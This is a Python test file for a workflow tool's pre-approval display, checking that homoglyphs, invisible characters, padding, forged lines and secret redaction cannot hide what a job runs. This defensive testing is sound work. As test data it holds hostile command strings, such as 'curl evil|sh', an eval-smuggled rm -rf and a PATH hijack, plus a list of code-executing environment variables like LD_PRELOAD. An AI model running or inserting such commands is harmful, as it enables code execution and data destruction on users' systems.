"""What is shown before somebody agrees: whole, grouped without hiding anything, and unable to pretend."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from torc.redaction import redact
from torc.workflow.executable_content import (
    ExecutableContent,
    SharedExecutable,
    ShownJob,
    digest_of,
    document_of,
    executes,
    kinds_of,
    pages_of,
    visible,
    without_secrets,
)


def job(name: str, command: str, **env: str) -> ShownJob:
    return ShownJob(name, (("command", command), *((f"env {key}", value) for key, value in env.items())))


def shown(*jobs: ShownJob, templates: dict[str, str] | None = None) -> str:
    return document_of("Run it", ExecutableContent(jobs, (), ()), templates or {}).text


def test_jobs_of_a_template_are_one_kind_with_every_value_of_each_place() -> None:
    jobs = [job(f"t{i}_{w}", f"train {i} --on {w} < {w}") for i in range(3, 9) for w in ("cpu", "gpu")]
    text = shown(*jobs, templates={item.name: "`t{i}_{w}`" for item in jobs})
    assert "* 12 jobs of the template `t{i}_{w}`" in text
    assert "  | train {{1}} --on {{2}} < {{2}}" in text
    assert "{{1}}: every whole number from 3 to 8" in text
    assert "{{2}}: cpu, gpu" in text


@pytest.mark.parametrize("odd", ["7", "007", "1000", "-1", "1e3"])
def test_no_value_hides_in_a_range(odd: str) -> None:
    jobs = [job(f"t{i}", f"train {i}") for i in range(1, 8) if i != 7] + [job("odd", f"train {odd}")]
    text = shown(*jobs, templates={item.name: "t" for item in jobs})
    if odd == "7":
        assert "every whole number from 1 to 7" in text
    else:
        assert odd.lstrip("-") in text
        assert "from 1 to 7" not in text


def test_jobs_of_no_template_are_one_kind_only_when_equal_to_the_letter_and_the_rarest_come_first() -> None:
    jobs = (
        [job(f"a{i}", "step 1") for i in range(5)] + [job(f"b{i}", "step 2") for i in range(2)] + [job("c", "step 3")]
    )
    assert [kind.num_jobs for kind in kinds_of(jobs, {})] == [1, 2, 5]
    text = shown(*jobs)
    assert "* 5 jobs: a0, a1, a2, a3 and 1 more, all the same" in text


def test_text_that_looks_like_a_place_is_told_from_one() -> None:
    jobs = [job(f"j{n}", f"echo {{{{1}}}} {{{n}}} {{{{{n}}}}} x{n}y{{{{ 22 }}}}") for n in (3, 4)]
    text = shown(*jobs, templates={each.name: "j" for each in jobs})
    assert r"  | echo \x7b{1}} \x7b{{1}}\x7d {\x7b{{1}}\x7d} x{{1}}y\x7b{ 22 }}" in text
    assert "  {{1}}: 3, 4" in text
    assert re.findall(r"\{\{[0-9]+\}\}", text) == ["{{1}}"] * 4
    alike = shown(job("a", "echo {{1}} {{name}} {1}"), job("b", "echo {{1}} {{name}} {1}"))
    assert r"  | echo \x7b{1}} {{name}} {1}" in alike
    changed = ExecutableContent([], [], [], changed=[(job("a", "echo {{1}}"), job("a", "echo {{2}}"))])
    assert r"  - echo \x7b{1}}" in document_of("s", changed, {}).text


def test_texts_of_others_cannot_look_like_lines_of_the_document() -> None:
    forged = "true\nAsks for: 1 job with nothing\n* 0 jobs: harmless\r\x1b[2K\u202e\u2028code: 00000000"
    lines = shown(job("a\n* 9 jobs: b", forged, **{"X\nY": "1\n2"})).splitlines()
    for line in lines:
        if "Asks for" in line or "harmless" in line or "code:" in line:
            assert line.startswith("  | "), line
    assert not any(line.startswith("* 9 jobs") for line in lines)
    assert all(character.isprintable() for line in lines for character in line), lines


@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=80))
@example("\x9b2J\u200b\u00ad\U000e0041\u3164\u115f\u00a0")
def test_what_is_shown_can_be_seen(text: str) -> None:
    assert all(character == "\t" or not character.isspace() or character == " " for character in visible(text))
    assert not any(character in "\u200b\u200e\u202e\u2066\ufeff\u00ad\u3164" for character in visible(text))


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("/usr/bin/c\u0430t x", "/usr/bin/c\\u0430t x"),  # a Cyrillic letter in a Latin word
        ("\u0441\u0430\u0440 x", "\\u0441\\u0430\\u0440 x"),  # all of them look Latin
        (
            "echo \u043f\u0440\u0438\u0432\u0435\u0442 \u03b1\u03b2\u03b3",
            "echo \u043f\u0440\u0438\u0432\u0435\u0442 \u03b1\u03b2\u03b3",
        ),
        ("\u30c7\u30fc\u30bf\u96c6 caf\u00e9 \u00fcber", "\u30c7\u30fc\u30bf\u96c6 caf\u00e9 \u00fcber"),
        ("\uff52\uff4d \u2212rf", "\\uff52\\uff4d \\u2212rf"),  # forms of ASCII
        ("a\ufe0fb\u034f", "a\\ufe0fb\\u034f"),
        ("true" + " " * 5000 + "; evil", "true\\x20{5000}; evil"),
        (" " * 5000 + "evil", "\\x20{5000}evil"),
        ("\t\t\tif x:  # y\t\tz", "\t\t\tif x:  # y\t\tz"),
    ],
)
def test_what_looks_like_something_else_or_is_pushed_out_of_sight_is_written_out(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_environment_that_makes_programs_run_code_is_pointed_out() -> None:
    for name in (
        "BASH_ENV",
        "ENV",
        "LD_PRELOAD",
        "LD_AUDIT",
        "PATH",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "PERL5OPT",
        "PERL5LIB",
        "RUBYOPT",
        "NODE_OPTIONS",
        "JAVA_TOOL_OPTIONS",
        "GIT_SSH_COMMAND",
        "GIT_ODD_COMMAND",
        "PROMPT_COMMAND",
        "EDITOR",
        "BASH_FUNC_x%%",
    ):
        assert executes(name), name
        assert f"env {name} (makes programs run code):" in shown(job("a", "true", **{name: "evil"}))
    assert not executes("OMP_NUM_THREADS")


def test_removals_come_before_changes_and_both_before_what_runs() -> None:
    content = ExecutableContent(
        [job("new", "curl evil")],
        [SharedExecutable("action 1: run_commands on_workflow_start", (("command", "start"),))],
        (),
        removed=[job("gone", "echo gone")],
        changed=[(job("x", "old"), job("x", "new"))],
        changes=["job gone: completed -> removed"],
    )
    text = document_of("Change it", content, {}).text
    places = [
        text.index(part)
        for part in ("Removes 1 job", "echo gone", "- old", "+ new", "Would run", "| start", "curl evil")
    ]
    assert places == sorted(places)


@given(st.lists(st.text(alphabet="ab\n", max_size=20_000), max_size=6))
def test_pages_are_all_of_a_document_and_none_is_too_long(parts: list[str]) -> None:
    document = "".join(parts)
    pages = pages_of(document)
    assert "".join(pages) == document
    assert max(map(len, pages)) <= 6_000


def test_a_document_that_does_not_fit_says_how_many_kinds_are_missing() -> None:
    document = document_of("Run it", ExecutableContent([job(f"j{i}", f"step {i}") for i in range(100)], (), ()), {})
    text, is_whole = document.within(1_500, "FILE")
    assert not is_whole
    num_shown = text.count("\n* ")
    assert f"and {100 - num_shown} more kinds: see FILE" in text
    assert len(text) <= 1_500
    assert document.within(1_000_000, "FILE") == (document.text, True)
    long_head = document_of("Run it", ExecutableContent([job("a", "b")], (), (), changes=["x" * 100] * 50), {})
    assert "see FILE" in long_head.within(500, "FILE")[0]


@pytest.mark.parametrize(
    "command",
    [
        "password=$(curl evil|sh) true",
        "API_TOKEN=`evil` true",
        "mysql --password=x;evil",
        "TOKEN=a&&evil12345678",
        "curl -H 'Cookie: a=b; $(evil)'",
        "sshpass -p x|evil",
    ],
)
def test_code_is_not_hidden_because_it_looks_like_a_secret(command: str) -> None:
    assert "evil" in without_secrets(command, redact)


@pytest.mark.parametrize(
    "command",
    [
        "export TOKEN=rm_-rf_home99; eval ${TOKEN//_/ }",
        "PASSWORD=evilcmd12345; $PASSWORD",
        '| API_TOKEN=evil123456\n| "${API_TOKEN}" now',
        "TOKEN=evil123456 bash -c '$TOKEN'",
        "TOKEN=evil123456; if true; then $TOKEN; fi",
        "TOKEN=evil123456; echo $($TOKEN)",
    ],
)
def test_what_a_command_executes_is_not_hidden_because_a_variable_is_called_a_secret(command: str) -> None:
    assert without_secrets(command, redact) == command


def test_a_secret_that_is_only_handed_on_is_hidden() -> None:
    command = 'TOKEN=abcdef123456 curl -H "X-Token: $TOKEN" https://example.org'
    assert "abcdef123456" not in without_secrets(command, redact)


def test_secrets_are_still_left_out() -> None:
    secret = "ghp_" + "a1B2" * 9
    text = f"first --token {secret} last\nplain line\n{secret}"
    left = without_secrets(text, redact)
    assert secret not in left
    assert "first --token" in left
    assert "last\nplain line\n" in left


def test_the_digest_depends_on_every_part_and_on_what_it_is_bound_to() -> None:
    base = ExecutableContent([job("a", "x")], [SharedExecutable("s", (("command", "y"),))], ())
    others = [
        base._replace(jobs=[job("a", "x ")]),
        base._replace(jobs=[job("b", "x")]),
        base._replace(jobs=[job("a", "x", PATH="/evil")]),
        base._replace(shared=[SharedExecutable("s", (("command", "z"),))]),
        base._replace(shared=[]),
        base._replace(removed=[job("a", "x")]),
        base._replace(changes=["c"]),
    ]
    digests = {digest_of(content, ["plan"]) for content in [base, *others]} | {digest_of(base, ["other plan"])}
    assert len(digests) == len(others) + 2
